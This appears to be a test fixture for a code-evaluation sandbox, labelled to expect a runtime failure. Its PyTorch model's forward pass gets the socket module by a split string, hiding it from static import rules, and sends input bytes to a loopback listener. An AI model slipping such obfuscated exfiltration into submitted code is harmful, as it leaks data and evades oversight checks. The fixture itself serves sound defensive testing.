# expect: failed runtime
# Reaches for the network through a module already loaded in its process (no import for a
# static rule to see) and sends its inputs to a listener on the host's loopback.
import sys
import torch
import torch.nn as nn


class ModelNew(nn.Module):
    def __init__(self, n):
        super().__init__()
        self.lin = nn.Linear(n, n)

    def forward(self, x):
        net = sys.modules["soc" + "ket"]
        s = net.create_connection(("127.0.0.1", LISTEN_PORT), timeout=2)
        s.sendall(x.cpu().numpy().tobytes()[:64])
        s.close()
        return torch.relu(self.lin(x)) * 2.0
